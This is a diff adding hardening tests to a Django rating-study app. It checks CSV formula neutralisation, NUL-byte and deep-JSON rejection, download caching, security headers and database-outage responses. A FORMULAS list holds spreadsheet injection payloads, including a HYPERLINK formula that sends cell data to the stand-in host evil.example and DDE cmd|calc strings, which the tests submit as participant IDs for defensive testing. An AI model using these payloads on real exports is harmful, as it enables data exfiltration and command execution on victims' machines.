@@ -4,6 +4,7 @@ bodies, missing or forged CSRF tokens, guessed study/rater/stimulus tokens and i
 
 import json
 import secrets
+from urllib.parse import urlencode
 
 import pytest
 from django.conf import settings as django_settings
@@ -290,3 +291,247 @@ def test_flooding_the_rating_endpoint_is_rate_limited(world, settings):
     assert answers == [201] * 5
     assert {r.status_code for r in flood} == {429} and int(flood[0]["Retry-After"]) >= 1
     assert snapshot() == before
+
+
+# --------------------------------------------------------------------------- issue 14: hardening
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def formula_cells(data):
+    """Cells of CSV bytes that a spreadsheet would run as a formula (plain numbers like -0.5 are fine)."""
+    import csv
+    import io
+
+    from sr_models.csvcells import PLAIN_NUMBER
+
+    found = []
+    for row in csv.reader(io.StringIO(data.decode())):
+        found += [cell for cell in row if cell and cell[0] in "=+-@\t\r" and not PLAIN_NUMBER.fullmatch(cell)]
+    return found
+
+
+def test_csv_formula_injection_through_panel_ids_is_neutralised(world):
+    """Panel ids given as ?PROLIFIC_PID= reach ratings.csv, screening.csv and the subjective model's rater table with
+    a leading quote; numbers (scores, negative biases) stay numbers."""
+    from mos_study.services import exports
+
+    study = world["study_a"]
+    url = reverse("mos_study:start", args=[study.token])
+    for payload in FORMULAS:
+        response = Client().post(f"{url}?{urlencode({'PROLIFIC_PID': payload})}", {"consent": "on"})
+        assert response.status_code == 302
+    for rater in Rater.objects.filter(study=study, participant_id__in=[f.strip() for f in FORMULAS]):
+        for n, trial in enumerate(rater.sessions.get().trials.order_by("position")):
+            submit_rating(rater, trial.token, 1 + (n + rater.pk) % 5)
+    stored = set(Rater.objects.filter(study=study).values_list("participant_id", flat=True))
+    assert {f.strip() for f in FORMULAS} <= stored  # stored verbatim (but stripped); only the CSV cells are quoted
+    researcher = Client()
+    researcher.force_login(world["alice"])
+    files = exports.build_export(study).files
+    streamed = b"".join(researcher.get(reverse("mos_study:ratings_csv", args=[study.pk])).streaming_content)
+    export_ratings = b"".join(
+        researcher.get(reverse("mos_study:export_file", args=[study.pk, "ratings.csv"])).streaming_content
+    )
+    checked = {"dashboard ratings.csv": streamed, "export ratings.csv": export_ratings}
+    checked.update({name: data for name, data in files.items() if name.endswith(".csv")})
+    for name in ("ratings.csv", "screening.csv", "subjective_model_raters.csv"):
+        assert name in files, name
+    for name, data in checked.items():
+        assert formula_cells(data) == [], name
+    assert "'=HYPERLINK(" in files["ratings.csv"].decode()
+    assert "'@SUM(1+1)" in files["screening.csv"].decode()
+
+
+def test_benchmark_tables_neutralise_formula_names():
+    from benchmarks.tables import PER_IMAGE_COLUMNS, csv_text
+    from sr_models.csvcells import safe_cell
+
+    rows = [{"dataset": "Set5", "image": "=1+1", "method": "@evil", "psnr_y": -1.5, "ssim_y": "-0.25"}]
+    text = csv_text(PER_IMAGE_COLUMNS, rows)
+    assert text.splitlines()[1] == "Set5,'=1+1,'@evil,-1.5,-0.25"
+    assert [safe_cell(v) for v in ("P00", "-3", "1e-05", 4, -2.5, "-", "+x")] == [
+        "P00",
+        "-3",
+        "1e-05",
+        4,
+        -2.5,
+        "'-",
+        "'+x",
+    ]
+
+
+def queries_with_nul(client_call):
+    """Run a request; return its response and the SQL it ran that carried a NUL byte (PostgreSQL: a 500)."""
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    with CaptureQueriesContext(connection) as queries:
+        response = client_call()
+    return response, [q["sql"] for q in queries.captured_queries if "\x00" in q["sql"]]
+
+
+def test_nul_bytes_deep_json_and_huge_numbers_are_400_not_500(world, caplog):
+    """NUL in any token or panel id, a 400-digit score or response time, JSON nested 100,000 deep: 400/404, one
+    log line each, no query carrying the NUL (PostgreSQL refuses it with an error, which was a 500)."""
+    own, rater = world["unrated"].token, world["rater_1"]
+    study_url = reverse("mos_study:start", args=[world["study_a"].token])
+    requests = [
+        (lambda c: c.get(study_url + "?PROLIFIC_PID=a%00b"), {400}),
+        (lambda c: c.post(study_url + "?pid=%00", {"consent": "on"}), {400}),
+        (lambda c: c.post(study_url, {"consent": "on", "participant_id": "x\x00y"}), {400}),
+        (lambda c: c.get(reverse("mos_study:start", args=["abc\x00def"])), {400, 404}),
+        (lambda c: c.get(reverse("mos_study:rate", args=[rater.token + "\x00"])), {400, 404}),
+        (lambda c: c.get(reverse("mos_study:session_state", args=["\x00"])), {400, 404}),
+        (lambda c: c.get(reverse("mos_study:image", args=[own + "\x00"])), {400, 404}),
+        (
+            lambda c: post_json(c, reverse("mos_study:submit_rating", args=["a\x00"]), {"trial": own, "score": 3}),
+            {400, 404},
+        ),
+        (lambda c: post_json(c, rate_url(rater), {"trial": own + "\x00", "score": 3}), {404}),
+        (lambda c: post_json(c, rate_url(rater), {"trial": "\x00", "score": 3}), {404}),
+        (lambda c: post_json(c, rate_url(rater), '{"trial": "%s", "score": %s}' % (own, "9" * 400)), {400}),
+        (lambda c: post_json(c, rate_url(rater), '{"trial": "%s", "score": -%s}' % (own, "9" * 400)), {400}),
+        (
+            lambda c: post_json(
+                c, rate_url(rater), '{"trial": "%s", "score": 3, "response_ms": %s}' % (own, "9" * 400)
+            ),
+            {400, 201},
+        ),
+        (lambda c: post_json(c, rate_url(rater), "[" * 100_000 + "]" * 100_000), {400}),
+        (lambda c: post_json(c, rate_url(rater), '{"a":' * 100_000 + "1" + "}" * 100_000), {400}),
+    ]
+    for call, statuses in requests:
+        Rating.objects.filter(trial__token=own).delete()
+        before = snapshot()
+        caplog.clear()
+        response, nul_queries = queries_with_nul(lambda: call(Client()))
+        assert response.status_code in statuses, (response.status_code, response.content[:200])
+        assert nul_queries == []
+        if response.status_code != 201:
+            assert snapshot() == before
+        else:  # a huge response time is clamped, the rating itself is fine
+            assert Rating.objects.get(trial__token=own).response_ms == 10 * 60 * 1000
+        errors = [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL") or r.exc_info]
+        assert errors == [], [r.getMessage() for r in errors]
+        assert len(caplog.records) <= 2  # one line (the refusal; Django's "Bad Request: ..." line at most)
+
+
+@pytest.mark.parametrize("score", ["4", " 5\n", "\u0663", "\uff14", 4.0, 5.0, True, False, "4.0", "0x4", None, 10**400])
+def test_a_score_is_a_json_integer_and_nothing_else(world, score):
+    before = snapshot()
+    body = json.dumps({"trial": world["unrated"].token, "score": score}) if score != 10**400 else None
+    body = body or '{"trial": "%s", "score": %s}' % (world["unrated"].token, 10**400)
+    response = post_json(Client(), rate_url(world["rater_1"]), body)
+    assert_refused(response, {400})
+    assert snapshot() == before
+
+
+def test_downloads_refuse_post_and_are_never_cached(world):
+    """POST on ratings.csv and the other downloads is 405 (and changes nothing); every researcher download says
+    Cache-Control: private, no-store."""
+    study = world["study_a"]
+    researcher = Client()
+    researcher.force_login(world["alice"])
+    downloads = [
+        reverse("mos_study:ratings_csv", args=[study.pk]),
+        reverse("mos_study:export_file", args=[study.pk, "ratings.csv"]),
+        reverse("mos_study:export_file", args=[study.pk, "mos.csv"]),
+        reverse("mos_study:export_zip", args=[study.pk]),
+        reverse("mos_study:mos_svg", args=[study.pk]),
+    ]
+    pages = [reverse("mos_study:dashboard"), reverse("mos_study:study_detail", args=[study.pk])]
+    before = snapshot()
+    for url in downloads + pages:
+        for method in ("post", "put", "delete"):
+            assert getattr(researcher, method)(url).status_code == 405, (method, url)
+    assert snapshot() == before
+    for url in downloads:
+        response = researcher.get(url)
+        assert response.status_code == 200, url
+        assert response["Cache-Control"] == "private, no-store", url
+
+
+def test_security_headers_on_every_response(world):
+    """Content-Security-Policy (scripts only from our own files) and Permissions-Policy everywhere: rater pages,
+    JSON, errors, researcher pages, the admin, static files; and no template has an inline script or handler."""
+    import re
+    from pathlib import Path
+
+    researcher = Client()
+    researcher.force_login(world["alice"])
+    rater = world["rater_1"]
+    answers = [
+        Client().get(reverse("mos_study:start", args=[world["study_a"].token])),
+        Client().get(reverse("mos_study:rate", args=[rater.token])),
+        Client().get(reverse("mos_study:session_state", args=[rater.token])),
+        post_json(Client(), rate_url(rater), {"trial": "nope", "score": 3}),
+        Client().get("/no/such/page/"),
+        Client().get(reverse("mos_study:login")),
+        Client().get("/admin/login/"),
+        researcher.get(reverse("mos_study:study_results", args=[world["study_a"].pk])),
+        researcher.get(reverse("mos_study:mos_svg", args=[world["study_a"].pk])),
+    ]
+    for response in answers:
+        csp = response["Content-Security-Policy"]
+        assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
+        assert "object-src 'none'" in csp and "frame-ancestors 'none'" in csp
+        assert "camera=()" in response["Permissions-Policy"] and "microphone=()" in response["Permissions-Policy"]
+    templates = Path(__file__).resolve().parents[2] / "mos_study" / "templates"
+    for template in templates.rglob("*.html"):
+        text = template.read_text()
+        for tag in re.findall(r"<script\b[^>]*>", text):
+            assert "src=" in tag or "application/json" in tag, (template, tag)  # no inline script
+        assert not re.search(r"\son[a-z]+\s*=", text), template  # no inline event handler
+        assert "javascript:" not in text, template
+
+
+@pytest.mark.parametrize("error_class", ["OperationalError", "InterfaceError"])
+def test_a_database_outage_is_a_503_with_retry_after_logged_once(world, caplog, monkeypatch, error_class):
+    """The database stops answering: rater endpoints answer 503 JSON (the app's error shape) with Retry-After, the
+    rating page a short HTML 503; the log says once that the database is unreachable (no traceback per request),
+    and once that it is back."""
+    import django.db
+    from django.db.backends.utils import CursorWrapper
+
+    from mos_study.middleware import outage_log
+
+    monkeypatch.setattr(outage_log, "down_since", None)
+    monkeypatch.setattr(outage_log, "refused", 0)
+    rater, own = world["rater_1"], world["unrated"].token
+    before = snapshot()
+    error = getattr(django.db, error_class)
+
+    def unreachable(self, *args, **kwargs):
+        raise error('connection to server at "127.0.0.1", port 5432 failed: Connection refused')
+
+    caplog.clear()
+    with monkeypatch.context() as patch:
+        patch.setattr(CursorWrapper, "execute", unreachable)
+        patch.setattr(CursorWrapper, "executemany", unreachable)
+        answers = [post_json(Client(), rate_url(rater), {"trial": own, "score": 3}) for _ in range(5)]
+        answers.append(Client().get(reverse("mos_study:session_state", args=[rater.token])))
+        page = Client().get(reverse("mos_study:rate", args=[rater.token]))
+        consent = Client().get(reverse("mos_study:start", args=[world["study_a"].token]))
+    for response in answers:
+        assert response.status_code == 503
+        assert response["Content-Type"].startswith("application/json")
+        assert response.json()["error"] == "database_unavailable" and response.json()["retry_after"] >= 1
+        assert int(response["Retry-After"]) >= 1
+    for response in (page, consent):
+        assert response.status_code == 503 and int(response["Retry-After"]) >= 1
+        assert b"Server busy" in response.content
+    said = [r.getMessage() for r in caplog.records if "unreachable" in r.getMessage()]
+    assert len(said) == 1 and error_class in said[0], said
+    assert not [r for r in caplog.records if r.exc_info], "no traceback per request"
+    assert not [r for r in caplog.records if "Service Unavailable" in r.getMessage()]
+    assert snapshot() == before
+    assert post_json(Client(), rate_url(rater), {"trial": own, "score": 3}).status_code == 201  # back
+    assert any("reachable again" in r.getMessage() for r in caplog.records)
